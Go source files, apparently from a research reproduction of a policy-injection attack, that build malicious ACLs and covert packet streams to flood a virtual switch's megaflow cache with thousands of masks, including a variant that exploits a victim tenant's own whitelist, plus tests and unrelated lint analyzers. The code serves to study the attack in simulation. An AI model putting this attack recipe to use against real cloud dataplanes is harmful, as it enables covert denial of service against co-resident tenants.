func TestSingleFieldInjection(t *testing.T) {
	a := SingleField()
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Achieved() || v.Injected != 8 || v.Entries != 8 {
		t.Fatalf("verification: %v", v)
	}
	if v.Denied != 8 {
		t.Errorf("denied = %d, want all 8 (covert packets must violate the whitelist)", v.Denied)
	}
}

// TestTwoFieldInjection512 reproduces the paper's 512-mask claim on a live
// dataplane.
func TestTwoFieldInjection512(t *testing.T) {
	a := TwoField()
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if v.Injected != 512 {
		t.Fatalf("injected masks = %d, want 512\n%s", v.Injected, sw)
	}
	if v.Entries != 512 {
		t.Errorf("entries = %d, want 512 (one per mask)", v.Entries)
	}
}

// TestThreeFieldInjection8192 reproduces the full-blown DoS
// configuration's 8192 masks (Fig. 3).
func TestThreeFieldInjection8192(t *testing.T) {
	if testing.Short() {
		t.Skip("8192-mask injection is slow in -short mode")
	}
	a := ThreeField()
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if v.Injected != 8192 {
		t.Fatalf("injected masks = %d, want 8192", v.Injected)
	}
}

// TestCovertPacketsAreInnocuous: every covert packet is *denied* — the
// attack succeeds without ever being granted connectivity, the "covert"
// property the paper stresses.
func TestCovertPacketsAreInnocuous(t *testing.T) {
	a := TwoField()
	sw := installACL(t, a)
	keys, _ := a.Keys()
	for _, k := range keys {
		if d := sw.ProcessKey(1, k); d.Verdict.Verdict != flowtable.Deny {
			t.Fatalf("covert key %v was allowed", k)
		}
	}
}

// TestReplayIsIdempotent: replaying the stream does not create more masks,
// so the attacker can refresh entries forever at low rate.
func TestReplayIsIdempotent(t *testing.T) {
	a := SingleField()
	sw := installACL(t, a)
	a.Execute(sw, 1)
	first := sw.Megaflow().NumMasks()
	a.Execute(sw, 2)
	if got := sw.Megaflow().NumMasks(); got != first {
		t.Fatalf("replay changed mask count %d -> %d", first, got)
	}
	// And the replay is all fast-path now: zero new upcalls.
	before := sw.Counters().Upcalls
	a.Execute(sw, 3)
	if got := sw.Counters().Upcalls; got != before {
		t.Errorf("replay caused %d upcalls", got-before)
	}
}

// TestReplayKeepsEntriesAliveAgainstRevalidator models the paper's
// persistence argument: a low-rate refresh beats the idle eviction.
func TestReplayKeepsEntriesAliveAgainstRevalidator(t *testing.T) {
	a := SingleField()
	sw := installACL(t, a)
	a.Execute(sw, 0)
	for now := uint64(5); now <= 50; now += 5 { // refresh every 5 < MaxIdle 10
		a.Execute(sw, now)
		if evicted := sw.RunRevalidator(now); evicted != 0 {
			t.Fatalf("t=%d: revalidator evicted %d refreshed entries", now, evicted)
		}
	}
	if sw.Megaflow().NumMasks() != 8 {
		t.Fatalf("masks decayed to %d", sw.Megaflow().NumMasks())
	}
	// Without refresh they die.
	if evicted := sw.RunRevalidator(100); evicted != 8 {
		t.Fatalf("idle eviction removed %d, want 8", evicted)
	}
}

func TestBuildACLShape(t *testing.T) {
	a := ThreeField()
	theACL, err := a.BuildACL()
	if err != nil {
		t.Fatal(err)
	}
	if len(theACL.Entries) != 3 {
		t.Fatalf("entries = %d", len(theACL.Entries))
	}
	s := theACL.String()
	for _, want := range []string{"src=10.0.0.1/32", "dport=80", "sport=5201", "deny *"} {
		if !strings.Contains(s, want) {
			t.Errorf("ACL missing %q:\n%s", want, s)
		}
	}
	// The ACL must be CMS-acceptable (valid, compilable).
	if _, err := theACL.Compile(); err != nil {
		t.Fatal(err)
	}
}

func TestFramesBuildAndParse(t *testing.T) {
	a := SingleField()
	frames, err := a.Frames()
	if err != nil {
		t.Fatal(err)
	}
	if len(frames) != 8 {
		t.Fatalf("frames = %d", len(frames))
	}
	for _, f := range frames {
		if len(f) != 64 {
			t.Errorf("covert frame length %d, want 64", len(f))
		}
	}
	// Frames must round-trip through a real switch's frame path.
	sw := installACL(t, a)
	for i, f := range frames {
		if _, err := sw.Process(1, 0, f); err != nil {
			t.Fatalf("frame %d rejected: %v", i, err)
		}
	}
	if sw.Megaflow().NumMasks() != 8 {
		t.Fatalf("frame path injected %d masks", sw.Megaflow().NumMasks())
	}
}

func TestPlanBandwidthIsCovert(t *testing.T) {
	// The paper: 8192 entries kept alive with a 1–2 Mbps stream.
	p := ThreeField().Plan(10 /* OVS default idle timeout, seconds */)
	if p.Packets != 8192 {
		t.Fatalf("packets = %d", p.Packets)
	}
	if p.PPS < 819 || p.PPS > 820 {
		t.Errorf("pps = %.1f", p.PPS)
	}
	if p.BandwidthBPS > 2e6 {
		t.Errorf("covert stream needs %.2f Mbps, paper claims <= 2", p.BandwidthBPS/1e6)
	}
	if !strings.Contains(p.String(), "Mbps") {
		t.Error("plan string missing bandwidth")
	}
}

func TestValidateRejectsBadConfigs(t *testing.T) {
	bad := []*Attack{
		{},
		{Fields: []TargetField{{Field: flow.FieldEthSrc, Allow: 1}}},
		{Fields: []TargetField{{Field: flow.FieldIPSrc, Allow: 1}, {Field: flow.FieldIPSrc, Allow: 2}}},
		{Fields: []TargetField{{Field: flow.FieldIPSrc, Allow: 1, Width: 40}}},
		{Fields: []TargetField{{Field: flow.FieldTPDst, Allow: 1 << 20}}},
	}
	for i, a := range bad {
		if err := a.Validate(); err == nil {
			t.Errorf("config %d accepted", i)
		}
		if _, err := a.Keys(); err == nil {
			t.Errorf("config %d generated keys", i)
		}
		if _, err := a.BuildACL(); err == nil {
			t.Errorf("config %d built an ACL", i)
		}
	}
}

func TestCustomWidthSubsetsDepths(t *testing.T) {
	// A /16 whitelist limits the attacker to 16 divergence depths.
	a := &Attack{Fields: []TargetField{
		{Field: flow.FieldIPSrc, Allow: 0x0a0a0000, Width: 16},
	}}
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if v.Injected != 16 {
		t.Fatalf("injected = %d, want 16", v.Injected)
	}
}

func TestAttackDstField(t *testing.T) {
	a := &Attack{
		Fields: []TargetField{{Field: flow.FieldIPDst, Allow: 0x0a000002, Width: 8}},
		DstIP:  netip.MustParseAddr("10.0.0.2"),
	}
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if v.Injected != 8 {
		t.Fatalf("injected = %d, want 8", v.Injected)
	}
}

// TestV6TwoFieldInjection1024 verifies the IPv6 extension: a single IPv6
// source whitelist exposes 64 divergence depths in the top half, so
// ipv6_src_hi x tp_dst mints 64*16 = 1024 masks — double the IPv4 budget
// per address field, per the paper's "arbitrary number of protocol
// fields" remark.
func TestV6TwoFieldInjection1024(t *testing.T) {
	a := V6TwoField()
	if got := a.PredictedMasks(); got != 1024 {
		t.Fatalf("predicted = %d, want 1024", got)
	}
	sw := installACL(t, a)
	v, err := a.Execute(sw, 1)
	if err != nil {
		t.Fatal(err)
	}
	if v.Injected != 1024 {
		t.Fatalf("injected = %d, want 1024", v.Injected)
	}
	if v.Denied != 1024 {
		t.Errorf("denied = %d; covert v6 packets must all be denied", v.Denied)
	}
}

// TestV6CovertStreamIsIPv6 guards the template plumbing: covert keys for
// a v6 attack must carry eth_type 0x86dd, and frames must build.
func TestV6CovertStreamIsIPv6(t *testing.T) {
	a := V6TwoField()
	keys, err := a.Keys()
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range keys {
		if k.Get(flow.FieldEthType) != flow.EthTypeIPv6 {
			t.Fatal("covert key not IPv6")
		}
	}
	frames, err := a.Frames()
	if err != nil {
		t.Fatal(err)
	}
	if len(frames) != 1024 {
		t.Fatalf("frames = %d", len(frames))
	}
	// And they parse back to the same field values through the v6 path.
	sw := installACL(t, a)
	for _, f := range frames[:32] {
		if _, err := sw.Process(1, 0, f); err != nil {
			t.Fatal(err)
		}
	}
	if got := sw.Megaflow().NumMasks(); got != 32 {
		t.Fatalf("frame path injected %d masks, want 32", got)
	}
}
