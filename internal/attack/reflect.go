package attack

import (
	"fmt"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/flow"
)

// Reflected is the no-injection variant of the attack: instead of
// installing her own ACL, the attacker exploits a *victim's* existing
// whitelist by sending covert packets toward the victim's pods. Every
// prefix the victim whitelists exposes its own ladder of divergence
// depths, so the masks multiply exactly as in the injected attack — the
// attacker only needs (a) the ability to send packets that reach the
// victim's hypervisor port (they will all be denied, which is fine) and
// (b) knowledge or a guess of the whitelisted values.
//
// This generalisation shows the vulnerability belongs to the *dataplane*,
// not to the policy API: any tenant with an ordinary microsegmentation
// policy hands every would-be sender a mask-minting oracle. Guessing
// costs little: whitelists overwhelmingly name RFC1918 prefixes and
// well-known ports, and overshooting merely wastes covert packets.
type Reflected struct {
	// VictimIP is the destination the covert stream is aimed at.
	VictimIP netip.Addr
	// Policy is the victim's (known or guessed) whitelist.
	Policy []acl.Entry
	// Proto is the covert stream protocol, default TCP.
	Proto uint8
}

// Plan derives the equivalent field-targeted attack from the victim's
// whitelist.
//
// The mask arithmetic follows the classifier's subtable structure: each
// whitelist entry compiles to one subtable, and that subtable's trie
// gates are checked in a fixed field order with short-circuiting — a
// packet diverging at the first gated field never consults the rest. An
// entry therefore contributes the full divergence ladder of its *first*
// gated field only (ip_src before tp_src before tp_dst, the classifier's
// gate order). Ladders from different entries combine multiplicatively,
// exactly as in the injected attack — which is why "allow from X" plus
// "allow to port Y" (two entries) is worth w₁·w₂ masks while the single
// combined entry "allow from X to port Y" is worth only w₁. The paper's
// attacker shapes her injected ACL accordingly; the reflected attacker
// takes what the victim's policy shape offers.
func (r *Reflected) Plan() (*Attack, error) {
	if !r.VictimIP.IsValid() {
		return nil, fmt.Errorf("attack: reflected plan needs the victim IP")
	}
	if len(r.Policy) == 0 {
		return nil, fmt.Errorf("attack: reflected plan needs at least one whitelist entry")
	}
	atk := &Attack{DstIP: r.VictimIP, Proto: r.Proto}
	seen := map[flow.FieldID]bool{}
	addField := func(t TargetField) {
		if !seen[t.Field] {
			seen[t.Field] = true
			atk.Fields = append(atk.Fields, t)
		}
	}
	for _, e := range r.Policy {
		// First gated field in classifier gate order wins the entry.
		switch {
		case e.Src.IsValid() && e.Src.Addr().Unmap().Is4():
			p := e.Src.Masked()
			addField(TargetField{Field: flow.FieldIPSrc, Allow: flow.V4(p.Addr()), Width: p.Bits()})
		case !e.SrcPort.Any() && e.SrcPort.Exact():
			addField(TargetField{Field: flow.FieldTPSrc, Allow: uint64(e.SrcPort.From)})
		case !e.DstPort.Any() && e.DstPort.Exact():
			addField(TargetField{Field: flow.FieldTPDst, Allow: uint64(e.DstPort.From)})
		}
	}
	if len(atk.Fields) == 0 {
		return nil, fmt.Errorf("attack: victim whitelist constrains no reflectable field")
	}
	return atk, atk.Validate()
}
