// Package attack implements the paper's contribution: the policy-injection
// attack toolkit. It has three ingredients, mirroring §2 of the paper:
//
//  1. a set of malicious ACLs — seemingly harmless whitelist entries the
//     tenant installs through the CMS (BuildACL);
//  2. an adversarial packet sequence — the low-bandwidth covert stream
//     that trashes the megaflow cache with excess entries and masks
//     (Keys, Frames);
//  3. a plan/verification layer that predicts the mask count, sizes the
//     covert stream against the revalidator, and checks the cache state
//     actually reached (Predict, Verify).
//
// The mechanism: each whitelisted field value admits one megaflow mask per
// divergence depth (leading-bit position at which a packet first differs
// from the value). With k independently-whitelisted fields the depths
// multiply, so w₁·w₂·…·w_k masks can be minted — 32·16 = 512 for the
// paper's ip_src + tp_dst attack, 32·16·16 = 8192 with tp_src (Calico).
//
//lint:deterministic
package attack

import (
	"fmt"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// TargetField is one protocol field the malicious ACL whitelists.
type TargetField struct {
	// Field is the attacked header field. Supported: ip_src, ip_dst,
	// tp_src, tp_dst, ipv6_src_hi, ipv6_dst_hi.
	Field flow.FieldID
	// Allow is the whitelisted value (an IP as uint32, or a port).
	Allow uint64
	// Width is the prefix length of the whitelist rule and hence the
	// number of divergence depths the attacker can exercise; 0 means the
	// full field width (exact-match rule).
	Width int
}

func (t TargetField) width() int {
	if t.Width == 0 {
		return t.Field.Bits()
	}
	return t.Width
}

// Attack is a configured policy-injection attack instance.
type Attack struct {
	// Fields are the whitelisted target fields, one ACL entry each.
	Fields []TargetField
	// VictimSubnet guards the attack ACL template in examples; unused by
	// the mechanics.
	//
	// Packet template for the covert stream:
	SrcIP, DstIP netip.Addr // defaults: 172.16.0.66 -> attacker pod
	Proto        uint8      // default TCP
	FrameLen     int        // default 64 (minimum-size covert packets)
}

// Presets reproducing the paper's three configurations.

// SingleField is the illustration of Fig. 2: one /8 source-prefix rule;
// 8 masks.
func SingleField() *Attack {
	return &Attack{Fields: []TargetField{
		{Field: flow.FieldIPSrc, Allow: 0x0a000000, Width: 8}, // 10.0.0.0/8
	}}
}

// TwoField is the paper's "2 ACL rules matching solely on the IP source
// address and the L4 destination port": 32·16 = 512 masks, ~10% of peak.
func TwoField() *Attack {
	return &Attack{Fields: []TargetField{
		{Field: flow.FieldIPSrc, Allow: 0x0a000001}, // allow from 10.0.0.1
		{Field: flow.FieldTPDst, Allow: 80},         // allow to :80
	}}
}

// ThreeField adds the L4 source port (possible when the CMS plugin —
// Calico in the paper — lets tenants filter on it): 32·16·16 = 8192
// masks, the full-blown DoS of Fig. 3.
func ThreeField() *Attack {
	return &Attack{Fields: []TargetField{
		{Field: flow.FieldIPSrc, Allow: 0x0a000001},
		{Field: flow.FieldTPDst, Allow: 80},
		{Field: flow.FieldTPSrc, Allow: 5201},
	}}
}

// V6TwoField is the IPv6 extension the paper's "arbitrary number of
// protocol fields" remark invites: whitelisting a single IPv6 source
// address exposes 64 divergence depths in the top half alone, so
// ipv6_src_hi × tp_dst already mints 64·16 = 1024 masks — double the
// IPv4 equivalent, with the /64-plus-interface-ID structure of real
// deployments still unexploited.
func V6TwoField() *Attack {
	hi, _ := flow.V6(netip.MustParseAddr("2001:db8:0:1::1"))
	return &Attack{Fields: []TargetField{
		{Field: flow.FieldIPv6SrcHi, Allow: hi},
		{Field: flow.FieldTPDst, Allow: 80},
	}}
}

func (a *Attack) defaults() (netip.Addr, netip.Addr, uint8, int) {
	src, dst, proto, flen := a.SrcIP, a.DstIP, a.Proto, a.FrameLen
	if !src.IsValid() {
		src = netip.MustParseAddr("172.16.0.66")
	}
	if !dst.IsValid() {
		dst = netip.MustParseAddr("172.16.0.2")
	}
	if proto == 0 {
		proto = pkt.ProtoTCP
	}
	if flen == 0 {
		flen = 64
	}
	return src, dst, proto, flen
}

// Validate rejects unsupported target fields and out-of-range values.
func (a *Attack) Validate() error {
	if len(a.Fields) == 0 {
		return fmt.Errorf("attack: no target fields")
	}
	seen := map[flow.FieldID]bool{}
	for _, t := range a.Fields {
		switch t.Field {
		case flow.FieldIPSrc, flow.FieldIPDst, flow.FieldTPSrc, flow.FieldTPDst,
			flow.FieldIPv6SrcHi, flow.FieldIPv6DstHi:
		default:
			return fmt.Errorf("attack: unsupported target field %s", t.Field.Name())
		}
		if seen[t.Field] {
			return fmt.Errorf("attack: duplicate target field %s", t.Field.Name())
		}
		seen[t.Field] = true
		if t.width() < 1 || t.width() > t.Field.Bits() {
			return fmt.Errorf("attack: %s width %d out of range", t.Field.Name(), t.Width)
		}
		if t.Field.Bits() < 64 && t.Allow >= 1<<uint(t.Field.Bits()) {
			return fmt.Errorf("attack: %s allow value %#x overflows field", t.Field.Name(), t.Allow)
		}
	}
	return nil
}

// PredictedMasks returns the number of distinct megaflow masks the covert
// stream mints: the product of the per-field widths.
func (a *Attack) PredictedMasks() int {
	n := 1
	for _, t := range a.Fields {
		n *= t.width()
	}
	return n
}

// BuildACL constructs the malicious — yet CMS-acceptable — ACL: one
// whitelist entry per target field (each matching solely on that field,
// which is what makes the subtable masks independent), default deny.
func (a *Attack) BuildACL() (*acl.ACL, error) {
	if err := a.Validate(); err != nil {
		return nil, err
	}
	_, _, proto, _ := a.defaults()
	out := &acl.ACL{Comment: "policy-injection"}
	for _, t := range a.Fields {
		var e acl.Entry
		switch t.Field {
		case flow.FieldIPSrc:
			e.Src = netip.PrefixFrom(flow.V4Addr(t.Allow), t.width())
		case flow.FieldIPDst:
			e.Dst = netip.PrefixFrom(flow.V4Addr(t.Allow), t.width())
		case flow.FieldIPv6SrcHi:
			e.Src = netip.PrefixFrom(v6FromHi(t.Allow), t.width())
		case flow.FieldIPv6DstHi:
			e.Dst = netip.PrefixFrom(v6FromHi(t.Allow), t.width())
		case flow.FieldTPSrc:
			e.Proto = proto
			e.SrcPort = acl.Port(uint16(t.Allow))
		case flow.FieldTPDst:
			e.Proto = proto
			e.DstPort = acl.Port(uint16(t.Allow))
		}
		e.Comment = fmt.Sprintf("whitelist %s", t.Field.Name())
		out.Allow(e)
	}
	return out, nil
}

// StreamPlan sizes the covert stream: the packet rate needed to keep every
// injected megaflow alive against the revalidator's idle timeout, and the
// bandwidth that rate costs. The paper's point is that this is tiny
// (1–2 Mbps).
type StreamPlan struct {
	Packets      int     // distinct covert packets (= predicted masks)
	PPS          float64 // replay rate to beat the idle timeout
	BandwidthBPS float64 // bits per second at the configured frame length
}

// Plan computes the covert stream requirements for a revalidator idle
// timeout of idleSeconds.
func (a *Attack) Plan(idleSeconds float64) StreamPlan {
	_, _, _, flen := a.defaults()
	n := a.PredictedMasks()
	pps := float64(n) / idleSeconds
	return StreamPlan{
		Packets:      n,
		PPS:          pps,
		BandwidthBPS: pps * float64(flen) * 8,
	}
}

// v6FromHi builds the IPv6 address whose top half is hi (low half zero),
// the whitelisted value a hi-field attack targets.
func v6FromHi(hi uint64) netip.Addr {
	var b [16]byte
	for i := 0; i < 8; i++ {
		b[i] = byte(hi >> uint(56-8*i))
	}
	return netip.AddrFrom16(b)
}

// v6Targeted reports whether any target field is an IPv6 one.
func (a *Attack) v6Targeted() bool {
	for _, t := range a.Fields {
		switch t.Field {
		case flow.FieldIPv6SrcHi, flow.FieldIPv6DstHi:
			return true
		}
	}
	return false
}

func (p StreamPlan) String() string {
	return fmt.Sprintf("%d covert packets, %.0f pps to stay resident, %.2f Mbps",
		p.Packets, p.PPS, p.BandwidthBPS/1e6)
}
