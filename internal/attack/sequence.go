package attack

import (
	"fmt"
	"net/netip"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// Keys generates the adversarial packet sequence as flow keys: exactly one
// key per divergence-depth combination. For the combination (d₁, …, d_k),
// field i carries the whitelisted value with bit d_i−1 flipped — it agrees
// with the whitelist on the first d_i−1 bits and diverges at bit d_i, so
// the trie gate for field i examines exactly d_i bits. The union of those
// per-field prefixes is a megaflow mask unique to the combination.
//
// Every key is a distinct microflow, so the sequence also churns the
// exact-match cache as a side effect, as the paper observes.
func (a *Attack) Keys() ([]flow.Key, error) {
	if err := a.Validate(); err != nil {
		return nil, err
	}
	src, dst, proto, _ := a.defaults()
	if a.v6Targeted() {
		// The covert stream must be IPv6 so the whitelist subtables'
		// eth_type matches; default template addresses are v4-mapped
		// otherwise.
		src = netip.MustParseAddr("2001:db8:ffff::66")
		dst = netip.MustParseAddr("2001:db8:ffff::2")
		if a.SrcIP.IsValid() {
			src = a.SrcIP
		}
		if a.DstIP.IsValid() {
			dst = a.DstIP
		}
	}
	template := flow.FiveTuple{
		Src: src, Dst: dst, Proto: proto,
		SrcPort: 40000, DstPort: 53211,
	}.Key(0)

	n := a.PredictedMasks()
	out := make([]flow.Key, 0, n)
	depths := make([]int, len(a.Fields)) // 0-based: depth d means flip bit d
	for {
		k := template
		for i, t := range a.Fields {
			f := flow.FieldByID(t.Field)
			v := t.Allow ^ (1 << uint(f.Bits-1-depths[i]))
			k.Set(t.Field, v)
		}
		out = append(out, k)
		// Odometer increment over the depth vector.
		i := 0
		for ; i < len(depths); i++ {
			depths[i]++
			if depths[i] < a.Fields[i].width() {
				break
			}
			depths[i] = 0
		}
		if i == len(depths) {
			break
		}
	}
	if len(out) != n {
		return nil, fmt.Errorf("attack: generated %d keys, predicted %d", len(out), n)
	}
	return out, nil
}

// Frames generates the covert stream as wire frames (Keys rendered through
// the packet builder). The frames are what the orchestrator replays at
// 1–2 Mbps.
func (a *Attack) Frames() ([][]byte, error) {
	keys, err := a.Keys()
	if err != nil {
		return nil, err
	}
	_, _, _, flen := a.defaults()
	out := make([][]byte, 0, len(keys))
	for _, k := range keys {
		t := k.Tuple()
		spec := pkt.Spec{
			Src: t.Src, Dst: t.Dst, Proto: t.Proto,
			SrcPort: t.SrcPort, DstPort: t.DstPort,
			FrameLen: flen,
		}
		f, err := pkt.Build(spec)
		if err != nil {
			return nil, fmt.Errorf("attack: building covert frame: %w", err)
		}
		out = append(out, f)
	}
	return out, nil
}

// Verification is the outcome of replaying the covert stream against a
// switch.
type Verification struct {
	Predicted int // masks the plan promised
	Injected  int // distinct masks in the megaflow cache afterwards
	Entries   int // megaflow entries afterwards
	Denied    int // covert packets denied (expected: all of them)
}

// Achieved reports whether the cache reached at least 90% of the
// predicted mask count. The tolerance is not slack in the attack: the
// prediction assumes a pristine classifier, while co-resident tenants'
// whitelists share the per-field tries and perturb a few divergence
// depths, merging a handful of combinations (measured ~3% for a /24
// victim whitelist; see EXPERIMENTS.md).
func (v Verification) Achieved() bool { return v.Injected*10 >= v.Predicted*9 }

func (v Verification) String() string {
	return fmt.Sprintf("masks: %d injected / %d predicted; %d entries; %d covert packets denied",
		v.Injected, v.Predicted, v.Entries, v.Denied)
}

// Execute replays the covert sequence once against sw at logical time now
// and reports what the cache looks like afterwards. The attack ACL must
// already be installed (via the CMS or directly); Execute only sends
// packets, as a tenant could.
func (a *Attack) Execute(sw *dataplane.Switch, now uint64) (Verification, error) {
	keys, err := a.Keys()
	if err != nil {
		return Verification{}, err
	}
	denied := 0
	for _, k := range keys {
		d := sw.ProcessKey(now, k)
		if d.Verdict.Verdict == 0 { // flowtable.Deny
			denied++
		}
	}
	return a.verification(sw, denied), nil
}

// ExecuteFrames is Execute over the wire: the covert stream as raw frame
// bursts through the switch's frame-first ingress at inPort — exactly
// what an attacker's NIC delivers. Bursts are NIC-sized (32 frames), so
// the replay exercises the same vectorized extract + tier walk the victim
// measurement does.
func (a *Attack) ExecuteFrames(sw *dataplane.Switch, now uint64, inPort uint32) (Verification, error) {
	frames, err := a.Frames()
	if err != nil {
		return Verification{}, err
	}
	const burstLen = 32
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	denied := 0
	for start := 0; start < len(frames); start += burstLen {
		fb.Reset()
		for _, f := range frames[start:min(start+burstLen, len(frames))] {
			fb.Append(f, inPort)
		}
		out = sw.ProcessFrames(now, &fb, out)
		for _, d := range out[:fb.Len()] {
			if d.Verdict.Verdict == 0 { // flowtable.Deny
				denied++
			}
		}
	}
	return a.verification(sw, denied), nil
}

// verification snapshots the cache after a replay. Injected is the
// absolute mask population: pre-existing victim megaflows can share a
// mask shape with one of the covert combinations, so a delta would
// under-count.
func (a *Attack) verification(sw *dataplane.Switch, denied int) Verification {
	return Verification{
		Predicted: a.PredictedMasks(),
		Injected:  sw.Megaflow().NumMasks(),
		Entries:   sw.Megaflow().Len(),
		Denied:    denied,
	}
}
