package analysis

import (
	"go/ast"
	"go/types"
)

// ClockPurity enforces logical-clock purity: packages annotated
// //lint:deterministic (on the package clause) must not read the wall
// clock or draw from the global math/rand source. Every simulator run in
// this repo is pinned byte-identical per seed; one time.Now or global
// rand call silently breaks that contract. Measurement seams live in
// internal/sim, which is deliberately not annotated.
var ClockPurity = &Analyzer{
	Name: "clockpurity",
	Doc:  "forbid wall clock and global randomness in //lint:deterministic packages",
	Run:  runClockPurity,
}

// wallClockFuncs are the package-level time functions that read or
// schedule against the wall clock.
var wallClockFuncs = map[string]bool{
	"Now": true, "Since": true, "Until": true, "Sleep": true,
	"Tick": true, "After": true, "AfterFunc": true,
	"NewTimer": true, "NewTicker": true,
}

// seededRandFuncs are the math/rand constructors that take an explicit
// source or generator and therefore stay deterministic.
var seededRandFuncs = map[string]bool{
	"New": true, "NewSource": true, "NewZipf": true,
	"NewPCG": true, "NewChaCha8": true,
}

func runClockPurity(pass *Pass) {
	for _, pkg := range pass.Prog.TargetPackages() {
		deterministic := false
		for _, f := range pkg.Files {
			if hasDirective(f.Doc, DirDeterministic) {
				deterministic = true
			}
		}
		if !deterministic {
			continue
		}
		for _, f := range pkg.Files {
			ast.Inspect(f, func(n ast.Node) bool {
				call, ok := n.(*ast.CallExpr)
				if !ok {
					return true
				}
				fn := calleeOf(pkg.Info, call)
				if fn == nil || fn.Pkg() == nil {
					return true
				}
				switch fn.Pkg().Path() {
				case "time":
					if wallClockFuncs[fn.Name()] {
						pass.Reportf(call.Pos(), "wall clock: time.%s in deterministic package %s (thread the logical clock instead)", fn.Name(), pkg.Types.Name())
					}
				case "math/rand", "math/rand/v2":
					if fn.Type().(*types.Signature).Recv() != nil {
						return true // a method on an explicitly seeded *Rand
					}
					if !seededRandFuncs[fn.Name()] {
						pass.Reportf(call.Pos(), "global randomness: rand.%s in deterministic package %s (use an explicitly seeded generator)", fn.Name(), pkg.Types.Name())
					}
				}
				return true
			})
		}
	}
}
