package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// HotPathAlloc enforces the zero-allocation contract of the frame hot
// path: starting from every //lint:hotpath-annotated function, it walks
// the static call graph (direct calls and concrete method calls; dynamic
// interface dispatch is a traversal boundary, which is why the per-tier
// LookupBatch implementations carry their own annotations) and flags
// heap-allocating constructs on the way. //lint:coldpath marks the
// explicit hand-off to the intentionally expensive slow path and stops
// the walk.
var HotPathAlloc = &Analyzer{
	Name: "hotpathalloc",
	Doc:  "forbid heap-allocating constructs on //lint:hotpath call graphs",
	Run:  runHotPathAlloc,
}

// hotFunc is one function reachable from a hot-path root.
type hotFunc struct {
	decl *ast.FuncDecl
	pkg  *Package
	root string // the annotated root it was reached from
}

func runHotPathAlloc(pass *Pass) {
	prog := pass.Prog
	decls := make(map[*types.Func]*hotFunc) // every function with a body
	cold := make(map[*types.Func]bool)
	var roots []*types.Func
	for _, pkg := range prog.Pkgs {
		for _, f := range pkg.Files {
			for _, d := range f.Decls {
				fd, ok := d.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				obj, ok := pkg.Info.Defs[fd.Name].(*types.Func)
				if !ok {
					continue
				}
				decls[obj] = &hotFunc{decl: fd, pkg: pkg}
				if hasDirective(fd.Doc, DirColdpath) {
					cold[obj] = true
				}
				if pkg.Target && hasDirective(fd.Doc, DirHotpath) {
					roots = append(roots, obj)
					if hasDirective(fd.Doc, DirColdpath) {
						pass.Reportf(fd.Pos(), "function %s is annotated both hotpath and coldpath", fd.Name.Name)
					}
				}
			}
		}
	}

	// Breadth-first reachability from the roots, stopping at coldpath
	// boundaries. The first root to reach a function owns the attribution.
	reached := make(map[*types.Func]*hotFunc)
	var queue []*types.Func
	for _, r := range roots {
		if reached[r] == nil {
			hf := decls[r]
			hf.root = hf.decl.Name.Name
			reached[r] = hf
			queue = append(queue, r)
		}
	}
	for len(queue) > 0 {
		fn := queue[0]
		queue = queue[1:]
		hf := reached[fn]
		ast.Inspect(hf.decl.Body, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			callee := calleeOf(hf.pkg.Info, call)
			if callee == nil || cold[callee] || reached[callee] != nil {
				return true
			}
			next, ok := decls[callee]
			if !ok {
				return true // no body in the loaded program (stdlib, interface)
			}
			reached[callee] = &hotFunc{decl: next.decl, pkg: next.pkg, root: hf.root}
			queue = append(queue, callee)
			return true
		})
	}

	// Stable order: iterate packages and declarations, not the map.
	for _, pkg := range prog.Pkgs {
		for _, f := range pkg.Files {
			for _, d := range f.Decls {
				fd, ok := d.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				obj, _ := pkg.Info.Defs[fd.Name].(*types.Func)
				if hf := reached[obj]; hf != nil {
					checkHotBody(pass, hf)
				}
			}
		}
	}
}

// checkHotBody flags the allocating constructs in one hot function body.
func checkHotBody(pass *Pass, hf *hotFunc) {
	info := hf.pkg.Info
	fd := hf.decl
	report := func(pos token.Pos, format string, args ...any) {
		args = append(args, hf.root)
		pass.Reportf(pos, format+" (hot path via %s)", args...)
	}
	// Walk from the declaration, not the body, so the ancestor stack
	// includes the FuncDecl itself (localSliceArg needs the enclosing
	// function to classify append targets).
	inspectWithStack(fd, func(n ast.Node, stack []ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			checkHotCall(report, info, n, stack)
		case *ast.CompositeLit:
			if t := info.TypeOf(n); t != nil {
				if _, ok := t.Underlying().(*types.Map); ok {
					report(n.Pos(), "map literal allocates")
				}
			}
		case *ast.UnaryExpr:
			if n.Op == token.AND {
				if _, ok := ast.Unparen(n.X).(*ast.CompositeLit); ok {
					report(n.Pos(), "address of composite literal escapes to the heap")
				}
			}
		case *ast.FuncLit:
			if name := capturedVar(info, fd, n); name != "" {
				report(n.Pos(), "closure captures %q and allocates per call", name)
			}
		case *ast.AssignStmt:
			for _, lhs := range n.Lhs {
				checkMapWrite(report, info, lhs)
			}
		case *ast.IncDecStmt:
			checkMapWrite(report, info, n.X)
		}
		return true
	})
}

// checkMapWrite flags stores through a map index expression — bucket
// growth allocates, and the hot path must not carry map state at all.
func checkMapWrite(report func(token.Pos, string, ...any), info *types.Info, lhs ast.Expr) {
	idx, ok := ast.Unparen(lhs).(*ast.IndexExpr)
	if !ok {
		return
	}
	t := info.TypeOf(idx.X)
	if t == nil {
		return
	}
	if _, ok := t.Underlying().(*types.Map); ok {
		report(lhs.Pos(), "map write can grow buckets")
	}
}

// checkHotCall flags allocating calls: unamortized make, new, growth
// appends, fmt, and interface boxing of arguments.
